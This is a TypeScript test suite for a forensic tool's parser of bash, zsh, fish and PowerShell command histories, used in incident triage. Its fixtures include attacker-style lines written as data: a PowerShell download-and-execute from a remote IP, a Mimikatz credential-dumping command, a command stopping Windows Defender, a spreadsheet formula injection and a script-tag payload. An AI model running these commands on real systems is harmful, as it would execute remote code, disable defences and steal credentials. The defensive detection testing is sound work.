import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { historyOwner, shellHistoryFormat, shellOfName } from '../../src/ingest/formats/shell-history.ts';
import { collectEvents } from '../../src/pipeline/events.ts';
import { selected } from '../detect/mapping/helpers.ts';
import { fixtureEvents, readLogText } from '../helpers/format.ts';
import { assertNoPollution, assertSoundEvent, readAs } from '../helpers/hostile.ts';
import { packAlertTitles } from '../helpers/pack-alerts.ts';
import { tempDirs } from '../helpers/temp.ts';

/** Shell histories (bash, zsh, fish, PowerShell's PSReadLine): each command an event, at its time, by the home's owner. */

const dirs = tempDirs('shell-history');
const LINUX = { product: 'linux' };
const SCRIPT_BLOCK = { product: 'windows', category: 'ps_script' };

/** Reads `text` from `relative` (a path under a fresh directory, e.g. `home/alice/.bash_history`). */
async function readHistory(relative: string, text: string) {
  const dir = dirs.fresh();
  const parts = relative.split('/');
  mkdirSync(join(dir, ...parts.slice(0, -1)), { recursive: true });
  const read = await readLogText(join(dir, ...parts.slice(0, -1)), parts.at(-1)!, text);
  return { ...read, file: join(dir, ...parts) };
}

void describe('shell histories', () => {
  void it("reads bash's history: untimed commands one per line, then each timestamp's command, multi-line ones whole", async () => {
    const events = await fixtureEvents('shell-history', 'input.txt');
    assert.deepEqual(
      events.map((e) => [e.log.line, e['@timestamp'], e.process?.name, e.event.dataset]),
      [
        [1, undefined, 'ls', 'bash.history'],
        [2, undefined, 'sudo', 'bash.history'],
        [3, '2024-11-23T09:40:00.000Z', 'cd', 'bash.history'],
        [5, '2024-11-23T09:40:12.000Z', 'wget', 'bash.history'],
        [7, '2024-11-23T09:40:20.000Z', 'for', 'bash.history'],
        [11, '2024-11-23T09:41:41.000Z', 'bash', 'bash.history'],
        // Line 13's timestamp has no command (a blank line): no event; the next timestamp starts one.
        [15, '2024-11-23T09:43:10.000Z', 'history', 'bash.history'],
      ],
    );
    assert.equal(events[4]?.message, 'for h in 10.0.0.5 10.0.0.6; do\n  ssh -o ConnectTimeout=2 deploy@$h id\ndone');
    assert.equal(events[4]?.event.original, `#1732354820\n${events[4]?.message ?? ''}`, 'the original keeps the timestamp line');
    assert.deepEqual(events[3]?.vigil.indicators?.map((i) => i.value), ['203.0.113.45', 'http://203.0.113.45/x.sh']);
    assert.ok(events.every((e) => selected(e, LINUX) && !selected(e, SCRIPT_BLOCK) && e.event.action === 'shell-command'));
    assert.ok(events.every((e) => !selected(e, { product: 'linux', category: 'process_creation' })), 'a command typed is not a process start');
  });

  void it("takes the history's owner from its home directory, and its shell from its name when its lines do not say", async () => {
    assert.deepEqual(
      [
        '/home/alice/.bash_history',
        'uac/[root]/home/alice/.zsh_history',
        '/root/.bash_history',
        '/root/.local/share/fish/fish_history',
        '/var/root/.sh_history',
        '/Users/carol/.zsh_history',
        'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt',
        'C/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/Visual Studio Code Host_history.txt',
        '/srv/.bash_history.1',
        '/var/log/apt/history.log',
        '/home/dave/.mysql_history',
        'uac-web01.tar.gz!home/erin/.bash_history',
        'kape.zip!root/.bash_history',
        'cylr.zip!PSReadLine/ConsoleHost_history.txt',
      ].map((path) => [historyOwner(path), shellOfName(path)]),
      [
        ['alice', 'bash'], ['alice', 'zsh'], ['root', 'bash'], ['root', 'fish'], ['root', 'sh'], ['carol', 'zsh'],
        ['bob', 'powershell'], ['bob', 'powershell'], [undefined, 'bash'], [undefined, undefined], ['dave', undefined],
        ['erin', 'bash'], ['root', 'bash'], [undefined, 'powershell'],
      ],
    );
    const { events, formats } = await readHistory('home/alice/.bash_history', 'vim notes.txt\nmake\n');
    assert.deepEqual(formats, ['shell-history']);
    assert.deepEqual(events.map((e) => [e.user?.name, e.message, e.event.dataset, e.labels?.['shell.name']]), [
      ['alice', 'vim notes.txt', 'bash.history', 'bash'],
      ['alice', 'make', 'bash.history', 'bash'],
    ]);
  });

  void it('reads the histories of a triage collection (a tar archive), each by its owner', async () => {
    const dir = dirs.fresh();
    const root = join(dir, 'collection');
    for (const [path, text] of [['[root]/home/alice/.bash_history', 'id\nuname -a\n'], ['[root]/root/.zsh_history', ': 1732350000:0;whoami\n']] as const) {
      mkdirSync(join(root, path, '..'), { recursive: true });
      writeFileSync(join(root, path), text);
    }
    execFileSync('tar', ['-czf', join(dir, 'uac-web01.tar.gz'), '[root]'], { cwd: root });
    const { events, errors } = await collectEvents([join(dir, 'uac-web01.tar.gz')], { tz: 'UTC' });
    assert.deepEqual(errors, []);
    assert.deepEqual(events.map((e) => [e.user?.name, e.message, e.event.dataset]).sort(), [
      ['alice', 'id', 'bash.history'],
      ['alice', 'uname -a', 'bash.history'],
      ['root', 'whoami', 'zsh.history'],
    ]);
  });

  void it("reads zsh's extended history (start, elapsed seconds, commands continued by a backslash) and fish's entries", async () => {
    const zsh = await readHistory('home/carol/.zsh_history', [': 1732350000:0;cd /tmp', ': 1732350005:12;for i in 1 2; do\\', 'echo $i\\', 'done', ': 1732350030:0;echo done'].join('\n'));
    assert.deepEqual(zsh.events.map((e) => [e['@timestamp'], e.message, e.labels?.['shell.elapsed_seconds'], e.user?.name, e.log.line]), [
      ['2024-11-23T08:20:00.000Z', 'cd /tmp', '0', 'carol', 1],
      ['2024-11-23T08:20:05.000Z', 'for i in 1 2; do\necho $i\ndone', '12', 'carol', 2],
      ['2024-11-23T08:20:30.000Z', 'echo done', '0', 'carol', 5],
    ]);
    const fish = await readHistory('root/.local/share/fish/fish_history', ['- cmd: echo a\\nb\\\\c', '  when: 1732350100', '  paths:', '    - /etc/shadow', '    - /tmp/x', '- cmd: ls', '  when: 1732350200'].join('\n'));
    assert.deepEqual(fish.events.map((e) => [e['@timestamp'], e.message, e.labels?.['shell.paths'], e.user?.name, e.event.dataset]), [
      ['2024-11-23T08:21:40.000Z', 'echo a\nb\\c', '/etc/shadow\n/tmp/x', 'root', 'fish.history'],
      ['2024-11-23T08:23:20.000Z', 'ls', undefined, 'root', 'fish.history'],
    ]);
    // The zsh history is read by its lines' shape, whatever the file is called.
    const renamed = await readHistory('evidence/carol-history.txt', [': 1732350000:0;id', ': 1732350001:0;uname -a', ': 1732350002:0;ps aux'].join('\n'));
    assert.deepEqual([renamed.formats, renamed.events.map((e) => e.event.dataset)], [['shell-history'], ['zsh.history', 'zsh.history', 'zsh.history']]);
  });

  void it("reads PSReadLine's history as script blocks: backtick continuations, no timestamp taken from a `#` comment", async () => {
    const path = 'Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt';
    const { events, file } = await readHistory(path, ['whoami', '#1732350000', '#1732350001', '$wc = New-Object Net.WebClient', 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/a.ps1")`', 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"'].join('\r\n'));
    assert.deepEqual(events.map((e) => [e.message, e['@timestamp'], e.user?.name, e.event.action]), [
      ['whoami', undefined, 'bob', 'powershell-command'],
      ['#1732350000', undefined, 'bob', 'powershell-command'],
      ['#1732350001', undefined, 'bob', 'powershell-command'],
      ['$wc = New-Object Net.WebClient', undefined, 'bob', 'powershell-command'],
      ['IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/a.ps1")\nInvoke-Mimikatz -Command "sekurlsa::logonpasswords"', undefined, 'bob', 'powershell-command'],
    ]);
    assert.ok(events.every((e) => selected(e, SCRIPT_BLOCK) && selected(e, { product: 'windows' }) && !selected(e, LINUX)));
    assert.equal(events[4]?.process, undefined, 'a PowerShell line names no program');
    const titles = await packAlertTitles(dirs.fresh(), [file]);
    assert.ok(titles.includes('Suspicious PowerShell script block'), titles.join(' | '));
    // Without its name, a history of cmdlets is still PowerShell's.
    const unnamed = await readHistory('triage/commands.txt', ['Get-Process', 'Get-NetTCPConnection -State Established', 'Stop-Service -Name WinDefend', 'iex (iwr http://198.51.100.9/b.ps1)'].join('\n'));
    assert.deepEqual(unnamed.events.map((e) => e.event.dataset), ['powershell.history', 'powershell.history', 'powershell.history', 'powershell.history']);
  });

  void it('is taken from content only for histories: prose, syslog and SQL histories are not commands', () => {
    const sample = (fileName: string, lines: string[]) => ({ fileName, lines, values: [] });
    const sniff = (s: ReturnType<typeof sample>) => shellHistoryFormat.sniff(s);
    assert.ok(sniff(sample('x', ['ls -la', 'cd /etc', 'cat passwd', 'sudo -i'])) > 0.7);
    assert.ok(sniff(sample('x', ['#1732350000', 'ls', '#1732350001', 'id'])) > 0.9);
    assert.ok(sniff(sample('.bash_history', ['weird', 'lines'])) >= 0.6, "a file named as a shell's history is one");
    assert.equal(sniff(sample('x', ['ls -la'])), 0, 'one line is too few');
    assert.equal(sniff(sample('x', ['Find the logs first.', 'Cat owners may apply.', 'Make sure of it.'])), 0, 'Unix commands are lower case');
    assert.equal(sniff(sample('x', ['find the file, then cat it', 'The parser reads it', 'Nothing else'])), 0);
    assert.equal(sniff(sample('x', ['Nov 23 10:00:00 web1 sshd[1]: Accepted password for a from 10.0.0.1 port 22 ssh2', 'Nov 23 10:00:01 web1 cron[2]: (root) CMD (ls)', 'Nov 23 10:00:02 web1 su: ok'])), 0);
    assert.equal(sniff(sample('/home/dave/.mysql_history', ['show databases;', 'select * from users;', 'drop table x;'])), 0);
  });

  void it('caps a command that never ends (a history written without timestamps after timed ones) and keeps every line', async () => {
    const lines = ['#1732350000', ...Array.from({ length: 3000 }, (_, i) => `echo ${String(i)} ${'x'.repeat(40)}`)];
    const { events, errors } = await readAs('shell-history', `${lines.join('\n')}\n`);
    assert.deepEqual(errors, []);
    assert.ok(events.length > 1 && events.every((e) => (e.event.original.length) <= 64 * 1024), `${String(events.length)} events`);
    assert.equal(events.map((e) => e.message ?? '').join('\n').split('\n').length, 3000, 'no command line is lost');
  });

  void it('survives hostile histories: markup, prototype-named owners and labels, stray fish lines, control bytes', async () => {
    const hostile = await readHistory('home/__proto__/.bash_history', ['<script>alert(1)</script>', '=cmd|"/c calc"!A1', '#99999999999', 'constructor', 'echo \u0000\u001b[31m red'].join('\n'));
    assert.deepEqual(hostile.events.map((e) => [e.user?.name, e.process?.name, e['@timestamp']]), [
      ['__proto__', undefined, undefined], ['__proto__', '=cmd', undefined],
      // Eleven digits are past 2286: a comment typed, not bash's timestamp.
      ['__proto__', '#99999999999', undefined], ['__proto__', 'constructor', undefined], ['__proto__', 'echo', undefined],
    ]);
    assert.equal(hostile.events[0]?.message, '<script>alert(1)</script>', 'kept as text: the edges escape it');
    for (const event of hostile.events) assertSoundEvent(event);
    const fish = await readAs('shell-history', '- cmd: ls\n  when: 1732350000\nstray line\n  paths:\n    - /x\n');
    assert.deepEqual(fish.errors.map((e) => e.line), [3], 'a line no fish entry has is reported');
    assert.deepEqual(fish.events.map((e) => [e.vigil.format, e.message, e.labels?.['shell.paths']]), [
      ['plaintext', 'stray line', undefined],
      ['shell-history', 'ls', '/x'],
    ], 'the stray line is kept as text, and the entry goes on');
    assertNoPollution();
  });
});
